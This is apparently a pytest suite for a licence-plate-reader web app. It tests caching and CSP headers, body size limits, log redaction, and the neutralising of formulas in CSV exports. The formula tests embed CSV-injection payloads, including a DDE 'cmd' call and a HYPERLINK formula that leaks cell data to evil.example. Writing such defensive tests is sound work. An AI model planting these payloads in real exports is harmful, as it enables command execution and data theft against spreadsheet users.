"""What could leak: cached pages, a framed or script-injected console, the API map, plates in the server
log, oversized bodies, and formulas hidden in exported CSV."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import logging
import socket
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from plateguard.accounts.models import Agency
from plateguard.accounts.roles import Role
from plateguard.cameras import service as camera_service
from plateguard.cameras.models import CameraKind
from plateguard.config import Settings
from plateguard.ingest import service as ingest_service
from plateguard.ingest.schemas import ReadSubmission
from plateguard.main import create_app
from plateguard.reads.schemas import VehicleAttributes
from plateguard.spreadsheet import safe_cell
from plateguard.web.hardening import BodyLimit, uvicorn_log_config
from tests.conftest import TEST_ACTOR, AppFactory, MakeUser, Trained, post_login, prepared_data_dir, sign_in

WHY = {"purpose": "Criminal investigation", "case_number": "24-001234"}


def test_pages_and_apis_with_alpr_data_are_not_cached_and_carry_a_csp(
    client: TestClient, trained: Trained
) -> None:
    trained("priya", Role.INVESTIGATOR)
    csrf = sign_in(client, "priya")
    page = client.get("/reads/search", params={"plate": "7ABC123", **WHY})
    api = client.post(
        "/api/reads/search", json={**WHY, "query": {"plate": "7ABC123"}}, headers={"X-CSRF-Token": csrf}
    )
    for response in (page, api, client.get("/login")):
        assert response.headers["cache-control"] == "no-store"
        policy = response.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
        assert "unsafe-inline" not in policy
    assert "strict-transport-security" not in page.headers  # off unless configured
    assert "no-store" not in client.get("/static/plateguard.css").headers.get("cache-control", "")


def test_hsts_is_sent_when_configured(app_factory: AppFactory, settings: Settings) -> None:
    server = settings.server.model_copy(update={"hsts_seconds": 31_536_000})
    with TestClient(app_factory(server=server)) as client:
        assert client.get("/policy").headers["strict-transport-security"].startswith("max-age=31536000")


def test_the_api_description_is_not_public(client: TestClient) -> None:
    assert client.get("/openapi.json").status_code == 401
    assert client.get("/docs").status_code == 404
    assert client.get("/redoc").status_code == 404


def test_a_form_route_refuses_a_large_body_by_its_declared_length(
    client: TestClient, make_user: MakeUser
) -> None:
    make_user("lt.alvarez", Role.ADMINISTRATOR)
    csrf = sign_in(client, "lt.alvarez")
    big = {"csrf_token": csrf, "title": "x" * (2 * 1024 * 1024), "roles": "operator"}
    response = client.post("/admin/job-titles", data=big)
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"


def test_a_chunked_body_is_cut_off_at_the_limit_without_reading_the_rest() -> None:
    consumed = {"chunks": 0}
    chunk = b"x" * 65_536

    async def endless_body() -> dict[str, Any]:
        consumed["chunks"] += 1
        return {"type": "http.request", "body": chunk, "more_body": True}

    async def app(scope: Any, receive: Any, send: Any) -> None:
        while (await receive())["type"] != "http.disconnect":
            pass
        await send({"type": "http.response.start", "status": 400, "headers": []})
        await send({"type": "http.response.body", "body": b"app saw a cut body"})

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    guarded = BodyLimit(app, default=1024 * 1024, larger={})
    scope = {"type": "http", "path": "/login", "method": "POST", "headers": []}
    # on a thread of its own: a browser test earlier in the same run may leave an event loop running here
    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, guarded(scope, endless_body, send)).result()  # type: ignore[arg-type]
    assert sent[0]["status"] == 413
    assert consumed["chunks"] <= 1024 * 1024 // len(chunk) + 1  # 500 MB were on offer


def test_csv_exports_neutralise_formulas(
    client: TestClient, db: Session, agency: Agency, trained: Trained, tmp_path: Path
) -> None:
    camera = camera_service.create(
        session=db, actor=TEST_ACTOR, agency=agency, name='=HYPERLINK("x")', kind=CameraKind.FIXED
    )
    ingest_service.store_read(
        session=db,
        camera=camera,
        read=ReadSubmission(
            plate="7ABC123",
            confidence=0.9,
            captured_at=dt.datetime.now(dt.UTC) - dt.timedelta(hours=1),
            vehicle=VehicleAttributes(color="=cmd|' /C calc'!A0", type="@SUM(1+1)", make="+1-1"),
        ),
        images_dir=tmp_path,
    )
    trained("priya", Role.INVESTIGATOR)
    csrf = sign_in(client, "priya")
    form = {"csrf_token": csrf, "plate": "7ABC123", "match": "exact", "format": "csv", **WHY}
    exported = client.post("/reads/export", data=form)
    assert exported.status_code == 200, exported.text
    row = next(csv.DictReader(io.StringIO(exported.text)))
    assert row["vehicle_color"] == "'=cmd|' /C calc'!A0"
    assert row["vehicle_type"] == "'@SUM(1+1)"
    assert row["camera"] == '\'=HYPERLINK("x")'


def test_the_access_log_export_neutralises_formulas_typed_by_outsiders_and_users(
    client: TestClient, trained: Trained
) -> None:
    """An outsider's username at the sign-in form and a user's stated detail both reach the access log,
    and from there the Auditor's spreadsheet."""
    outsider = '=hyperlink("http://evil.example/?"&d2,"open")'
    refused = post_login(client, outsider, "anything at all")
    assert refused.status_code == 401
    trained("priya", Role.INVESTIGATOR)
    sign_in(client, "priya")
    detail = "=cmd|' /C calc'!A0"
    searched = client.get("/reads/search", params={"plate": "7ABC123", "detail": detail, **WHY})
    assert searched.status_code == 200, searched.text
    trained("sgt.brooks", Role.AUDITOR)
    sign_in(client, "sgt.brooks")
    exported = client.get("/audit/access-log/export")
    assert exported.status_code == 200, exported.text
    table = zipfile.ZipFile(io.BytesIO(exported.content)).read("access-log.csv").decode()
    rows = list(csv.DictReader(io.StringIO(table)))
    assert "'" + outsider in [row["username"] for row in rows]
    assert "'" + detail in [row["purpose_detail"] for row in rows]
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(-121.25) == -121.25 and safe_cell("7ABC123") == "7ABC123"


def test_the_server_log_holds_no_plates_case_numbers_or_purposes(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    prepared = prepared_data_dir(tmp_path / "data", {"Main St": CameraKind.FIXED})
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = int(probe.getsockname()[1])
    config = uvicorn.Config(
        create_app(prepared.settings), host="127.0.0.1", port=port, log_config=uvicorn_log_config()
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    try:
        query = {"plate": "7SECRET9", "case_number": "24-SECRET-77", "purpose": "Criminal investigation"}
        response = httpx.get(f"http://127.0.0.1:{port}/reads/search", params=query)
        assert response.status_code == 401
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        logging.getLogger("uvicorn.access").handlers.clear()
    output = capfd.readouterr()
    log = output.out + output.err
    assert "/reads/search" in log  # the request was logged...
    for secret in ("7SECRET9", "24-SECRET-77", "Criminal"):
        assert secret not in log  # ...without what it asked for
